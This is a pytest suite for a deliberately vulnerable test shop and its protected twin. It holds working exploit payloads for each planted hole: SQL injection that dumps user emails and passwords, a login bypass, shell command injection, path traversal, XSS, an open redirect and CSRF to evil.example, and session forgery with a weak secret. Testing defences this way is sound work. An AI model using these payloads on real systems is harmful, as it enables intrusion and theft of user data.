"""Every planted hole is real: exploited at the open shop, and at its twin exactly as far as truth.json says."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from itsdangerous import TimestampSigner

TRUTH = json.loads((Path(__file__).parent / "truth.json").read_text(encoding="utf-8"))
HOLES = {hole["id"]: hole for hole in TRUTH["holes"]}

TAG = "<script>alert(1)</script>"
EVIL = "https://evil.example"
ROW = "id, email, '', 'tee', 'ink', '', 0, '', '', NULL FROM users"
"""What a union needs to look like a product."""
MARK = str(1207 * 1009)
SUM = "$((1207*1009))"
PRIVATE = "maeve@threadbare.example"

Exploit = Callable[[Any], bool]
EXPLOITS: dict[str, Exploit] = {}


def exploits(name: str) -> Callable[[Exploit], Exploit]:
    def keep(function: Exploit) -> Exploit:
        EXPLOITS[name] = function
        return function

    return keep


@exploits("sqli-recently-viewed")
def _(shop: Any) -> bool:
    cookie = f"recently_viewed=0) UNION SELECT {ROW} --"
    return PRIVATE in shop.client.get("/", headers={"cookie": cookie}).text


@exploits("sqli-catalogue-sort")
def _(shop: Any) -> bool:
    def first(guess: str) -> str:
        asked = f"(SELECT email FROM users WHERE id = 2) LIKE '{guess}%'"
        reply = shop.client.get("/catalogue", params={"sort": f"CASE WHEN {asked} THEN price ELSE -price END"})
        return str(reply.text.partition("<strong>")[2].partition("<")[0])

    right, wrong = first("grace@"), first("edith@")
    return bool(right and wrong) and right != wrong


@exploits("sqli-search-size")
def _(shop: Any) -> bool:
    return PRIVATE in shop.client.get("/search", params={"q": "zzz", "size": f"' UNION SELECT {ROW} --"}).text


@exploits("sqli-api-category")
def _(shop: Any) -> bool:
    payload = "x' UNION SELECT id, email, password, '', 0 FROM users --"
    return PRIVATE in shop.client.get("/api/products", params={"category": payload}).text


@exploits("sqli-login")
def _(shop: Any) -> bool:
    shop.client.post("/login", data={"name": "grace' --", "password": "x"})
    return "Behind the counter" in shop.client.get("/admin").text


@exploits("sqli-api-order")
def _(shop: Any) -> bool:
    payload = quote("0 UNION SELECT id, email, password FROM users WHERE id = 3")
    return PRIVATE in shop.client.get(f"/api/orders/{payload}").text


@exploits("sqli-api-voucher")
def _(shop: Any) -> bool:
    payload = "' UNION SELECT 100, email FROM users WHERE id = 3 --"
    return PRIVATE in shop.client.post("/api/cart", json={"product": 1, "voucher": payload}).text


@exploits("cmdi-carrier")
def _(shop: Any) -> bool:
    payload = f"zz carriers.txt; echo {SUM} #"
    return MARK in shop.log_in("grace", "hopper").get("/admin/carrier", params={"host": payload}).text


@exploits("cmdi-label")
def _(shop: Any) -> bool:
    return MARK in shop.client.get("/shipping/label", params={"text": SUM}).text


@exploits("traversal-invoice")
def _(shop: Any) -> bool:
    outside = shop.app.state.store.folder / "canary.txt"
    outside.write_text("canary", encoding="utf-8")
    return any(
        shop.client.get("/invoice", params={"file": f}).text == "canary" for f in ("../canary.txt", str(outside))
    )


@exploits("xss-search")
def _(shop: Any) -> bool:
    return TAG in shop.client.get("/search", params={"q": TAG}).text


@exploits("xss-sizes")
def _(shop: Any) -> bool:
    return f'value="">{TAG}' in shop.client.get("/sizes", params={"chest": f'">{TAG}'}).text


@exploits("xss-abroad")
def _(shop: Any) -> bool:
    reply = shop.client.get("/shipping/abroad", params={"country": TAG})
    return TAG in reply.text and reply.headers["content-type"].startswith("text/html")


@exploits("xss-comment")
def _(shop: Any) -> bool:
    shop.client.post("/products/6/comments", data={"text": TAG})
    return TAG in shop.client.get("/products/6").text


@exploits("redirect-login")
def _(shop: Any) -> bool:
    form = {"name": "ada", "password": "lovelace", "next": EVIL}
    return bool(shop.client.post("/login", data=form, follow_redirects=False).headers.get("location") == EVIL)


@exploits("idor-order")
def _(shop: Any) -> bool:
    return "3 Quay Street" in shop.log_in("ada", "lovelace").get("/orders/1002").text


@exploits("missing-auth-users")
def _(shop: Any) -> bool:
    return PRIVATE in shop.client.get("/api/admin/users").text


@exploits("csrf-email")
def _(shop: Any) -> bool:
    headers = {"origin": EVIL, "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate"}
    client = shop.log_in("ada", "lovelace")
    client.post("/account/email", data={"email": "mallory@evil.example"}, headers=headers)
    return "mallory@evil.example" in client.get("/account").text


@exploits("upload-active")
def _(shop: Any) -> bool:
    client = shop.log_in("ada", "lovelace")
    client.post("/upload", data={"product": "1"}, files={"photo": ("hat.html", TAG, "image/png")})
    reply = client.get("/photos/hat.html")
    return TAG in reply.text and reply.headers["content-type"].startswith("text/html")


@exploits("login-unlimited")
def _(shop: Any) -> bool:
    for guess in range(30):
        shop.client.post("/login", data={"name": "ada", "password": str(guess)})
    reply = shop.client.post("/login", data={"name": "ada", "password": "lovelace"}, follow_redirects=False)
    return bool(reply.status_code == 303)


@exploits("weak-password-hash")
def _(shop: Any) -> bool:
    with shop.app.state.store.connect() as db:
        kept = db.execute("SELECT password FROM users WHERE name = 'ada'").fetchone()[0]
    return bool(kept == hashlib.sha1(b"lovelace").hexdigest())


@exploits("trace-in-json")
def _(shop: Any) -> bool:
    reply = shop.client.get("/api/price", params={"product": 1, "currency": "XYZ"})
    return "Traceback (most recent call last)" in reply.text


@exploits("debug")
def _(shop: Any) -> bool:
    reply = shop.client.get("/shipping/quote", params={"weight": "heavy"}, headers={"accept": "text/html"})
    return "Traceback" in reply.text and "int(weight)" in reply.text


@exploits("weak-secret")
def _(shop: Any) -> bool:
    session = base64.b64encode(json.dumps({"user": 2}).encode())
    cookie = f"session={TimestampSigner('threadbare').sign(session).decode()}"
    return "Behind the counter" in shop.client.get("/admin", headers={"cookie": cookie}).text


@exploits("session-not-secure")
def _(shop: Any) -> bool:
    shop.client.base_url = "https://testserver"
    reply = shop.client.post("/login", data={"name": "ada", "password": "lovelace"}, follow_redirects=False)
    return "secure" not in reply.headers["set-cookie"].lower()


@exploits("cors-any-origin")
def _(shop: Any) -> bool:
    reply = shop.log_in("ada", "lovelace").get("/api/me/orders", headers={"origin": EVIL})
    allowed = reply.headers.get("access-control-allow-origin"), reply.headers.get("access-control-allow-credentials")
    return "INV-1001" in reply.text and allowed == (EVIL, "true")


@exploits("docs-exposed")
def _(shop: Any) -> bool:
    return "/api/admin/users" in shop.client.get("/openapi.json").text and shop.client.get("/docs").status_code == 200


@exploits("any-host")
def _(shop: Any) -> bool:
    return 'href="http://evil.example/"' in shop.client.get("/", headers={"host": "evil.example"}).text


@exploits("autoescape-off")
def _(shop: Any) -> bool:
    return TAG in shop.app.state.widgets.get_template("size_finder.html").render(chest=TAG)


@exploits("cookie-recently-viewed")
def _(shop: Any) -> bool:
    cookie = shop.client.get("/products/1").headers["set-cookie"].lower()
    return "httponly" not in cookie and "samesite" not in cookie


@exploits("no-csp")
def _(shop: Any) -> bool:
    return "content-security-policy" not in shop.client.get("/").headers


@exploits("no-framing-limit")
def _(shop: Any) -> bool:
    headers = shop.client.get("/").headers
    return not {"x-frame-options", "x-content-type-options"} <= set(headers)


RUNNABLE = [name for name, hole in HOLES.items() if hole["found_by"] != "audit"]
BLOCKED = {"sql-injection", "command-injection", "path-traversal", "cross-site-scripting", "open-redirect"}


def test_every_hole_has_an_exploit() -> None:
    assert sorted(EXPLOITS) == sorted(RUNNABLE)


@pytest.mark.parametrize("name", RUNNABLE)
def test_the_open_shop_has_the_hole(open_shop: Any, name: str) -> None:
    assert EXPLOITS[name](open_shop)


@pytest.mark.parametrize("name", RUNNABLE)
def test_the_twin_is_as_the_truth_says(protected_shop: Any, name: str) -> None:
    assert EXPLOITS[name](protected_shop) is not HOLES[name]["cured_by_protect"]


@pytest.mark.parametrize("name", [name for name in RUNNABLE if HOLES[name]["class"] in BLOCKED])
def test_the_guard_refuses_it(protected_shop: Any, name: str) -> None:
    refused: list[int] = []
    protected_shop.client.event_hooks = {"response": [lambda reply: refused.append(reply.status_code)]}
    EXPLOITS[name](protected_shop)
    assert 403 in refused


@pytest.mark.parametrize("name", [name for name in RUNNABLE if HOLES[name].get("contained_by") == "csp"])
def test_the_policy_contains_it(protected_shop: Any, name: str) -> None:
    policies: list[str] = []

    def keep(reply: Any) -> None:
        if reply.status_code == 200:
            policies.append(reply.headers["content-security-policy"])

    protected_shop.client.event_hooks = {"response": [keep]}
    assert EXPLOITS[name](protected_shop)
    assert policies
    for policy in policies:
        assert "unsafe-inline" not in policy
        assert "script-src 'self'" in policy
